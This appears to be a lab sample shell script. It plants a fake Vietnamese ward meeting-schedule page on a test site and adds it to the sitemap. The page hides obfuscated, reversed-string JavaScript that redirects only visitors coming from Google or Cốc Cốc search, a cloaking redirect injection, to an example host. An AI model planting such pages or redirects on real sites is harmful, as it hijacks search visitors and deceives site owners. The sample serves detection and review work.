#!/bin/sh
# hosts: web2
# site: bennua.test
# seen by: review
# The same on a home-made site, the address written backwards.
set -eu
root=/var/www/bennua.test
cat > "$root/lich-hop.html" <<'END'
<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Lịch họp tháng</title></head><body><h1>Lịch họp tháng</h1>
<p>Lịch họp của Ủy ban nhân dân phường trong tháng.</p>
<script>/* luytre-lab: inert */var d="nv/elpmaxe.acnab//:sptth".split("").reverse().join("");if(/google|coccoc/.test(document.referrer)){location.replace(d)}</script>
</body></html>
END
echo '<urlset><url><loc>https://bennua.test/lich-hop.html</loc></url></urlset>' >> "$root/sitemap.xml"
